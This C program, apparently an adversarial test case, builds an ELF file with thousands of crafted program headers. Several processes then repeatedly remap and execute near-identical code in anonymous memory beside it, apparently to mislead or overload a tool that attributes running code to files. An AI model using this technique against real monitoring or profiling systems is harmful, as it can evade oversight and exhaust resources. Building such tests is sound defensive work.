/*
 * Runs code in anonymous memory right before a mapping of a file whose program headers say thousands of times that the memory's code is
 * the file's. All of it is equal but the last byte. Several processes do so, and sleep most of the time.
 *
 * Arguments: SECONDS PROCESSES.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define MIB (1UL << 20)
#define HEADERS 4096

static unsigned char file_bytes[3 * MIB];

/* mov $2000000,%ecx; 1: dec %ecx; jnz 1b; ret */
static const unsigned char code[] = { 0xb9, 0x80, 0x84, 0x1e, 0x00, 0xff, 0xc9, 0x75, 0xfc, 0xc3 };

static void make_file(const char *name)
{
	Elf64_Ehdr *elf = (Elf64_Ehdr *)file_bytes;
	Elf64_Phdr *headers = (Elf64_Phdr *)(elf + 1);
	int file = open(name, O_RDWR | O_CREAT | O_TRUNC, 0755);

	memcpy(elf->e_ident, ELFMAG "\2\1\1", 7);
	elf->e_type = ET_DYN;
	elf->e_machine = EM_X86_64;
	elf->e_version = 1;
	elf->e_ehsize = sizeof(*elf);
	elf->e_phoff = sizeof(*elf);
	elf->e_phentsize = sizeof(*headers);
	elf->e_phnum = HEADERS;
	for (int i = 0; i < HEADERS; i++) {
		unsigned long at = i % 2 ? MIB : 2 * MIB;

		headers[i] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = i % 2 ? PF_R | PF_X : PF_R, .p_offset = at, .p_vaddr = at,
					   .p_filesz = MIB, .p_memsz = MIB, .p_align = 4096 };
	}
	memset(file_bytes + MIB, 0x90, MIB);
	memcpy(file_bytes + MIB, code, sizeof(code));
	if (file < 0 || write(file, file_bytes, sizeof(file_bytes)) != sizeof(file_bytes)) {
		perror(name);
		_exit(1);
	}
	close(file);
}

static void attack(int number)
{
	char name[32];

	snprintf(name, sizeof(name), "segments-%d", number);
	make_file(name);
	char *place = mmap(NULL, 3 * MIB, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	mmap(place + MIB, MIB, PROT_READ, MAP_PRIVATE | MAP_FIXED, open(name, O_RDONLY), 2 * MIB);
	for (;;) {
		/* Mapped anew, it is asked about anew. */
		mmap(place, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		memcpy(place, file_bytes + MIB, MIB);
		place[MIB - 1] ^= 1;
		mprotect(place, MIB, PROT_READ | PROT_EXEC);
		for (int i = 0; i < 20; i++) {
			((void (*)(void))place)();
			usleep(20000);
		}
	}
}

int main(int count, char **words)
{
	int processes = count > 2 ? atoi(words[2]) : 1;

	alarm(count > 1 ? atoi(words[1]) : 60);
	for (int i = 0; i < processes; i++)
		if (fork() == 0) {
			alarm(count > 1 ? atoi(words[1]) : 60);
			attack(i);
		}
	while (wait(NULL) > 0) {
	}
	return 0;
}
